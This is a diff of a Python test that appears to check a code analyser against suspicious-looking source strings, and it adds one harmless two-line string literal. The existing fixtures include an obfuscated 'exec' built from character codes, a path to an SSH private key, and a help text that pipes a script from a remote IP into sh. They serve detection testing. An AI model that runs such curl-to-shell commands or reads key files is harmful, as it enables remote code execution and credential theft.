@@ -151,6 +151,7 @@ def test_a_models_module_with_an_endpoint_is_analysed_and_shows_it(tmp_path, par
         "codes = [101, 120, 101, 99, 40, 41, 59, 32, 105, 109, 112, 111, 114, 116, 32, 111]\n",
         "h = lambda a: lambda b: lambda c: lambda d: lambda e: a\n",
         f"BLOB = '{base64.b64encode(bytes(range(256)) * 2).decode()}'\n",
+        "X = ('~!@#$%^&*()_+{}|:<>?'\n     'qwertyuiop[]asdfghjkl;')\n",  # one literal on two lines
         "KEY = '~/.ssh/id_rsa'\n",
         "HELP = 'run: curl -s http://203.0.113.9/i.sh | sh'\n",
         "import sys\nsys.modules['json'] = None\n",
